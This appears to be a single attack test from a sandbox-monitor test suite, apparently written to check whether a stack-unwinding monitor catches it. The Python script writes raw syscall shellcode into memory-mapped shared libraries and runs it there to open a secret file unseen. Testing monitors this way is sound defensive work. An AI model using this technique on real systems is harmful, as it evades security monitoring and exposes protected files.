# SPDX-License-Identifier: Apache-2.0
# attack: damaged shared objects of the submission are mapped and on the stack when it is unwound
# class: log
# wins: log
# native: n/a: there is no stack reader without proctor
# needs: elf
# options: --stack both
# limits: wall=60
from kit import *

path = ctypes.create_string_buffer(os.fsencode(SECRET))
table = (ctypes.c_long * 7)(NR['openat'], AT_FDCWD, address(path), 0, 0)
# the call by the table in rdi without touching the stack: at a function's start that is what its unwind table says
raw = bytes.fromhex('488b07' '488b7710' '488b5718' '4c8b5720' '488b7f08' '0f05' 'c3')
tried()
n = 0
for name in sorted(os.listdir(BOX + '/odd')):
    if not name.startswith(('lib', 'python')):
        continue
    fd = openat(BOX + '/odd/' + name)
    size = os.fstat(fd).st_size
    p = libc.mmap(None, (size + 4095) & ~4095, 7, 2, fd, 0)
    # also as the loader would: pieces at other offsets
    libc.mmap(None, 8192, 5, 2, fd, 0)
    libc.mmap(None, 4096, 1, 2, fd, 4096)
    os.close(fd)
    if p in (None, 2 ** 64 - 1):
        continue
    for at in [0x40, size - 64] + list(range(0x1000 + n % 32 * 16, max(size * 2 // 3, 0x1000), 0x1510)):
        if 0 <= at < size - 48:
            keep = ctypes.string_at(p + at, len(raw))
            ctypes.memmove(p + at, raw, len(raw))
            ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_void_p)(p + at)(table)
            ctypes.memmove(p + at, keep, len(raw))
            n += 1
say('ROUNDS', n)
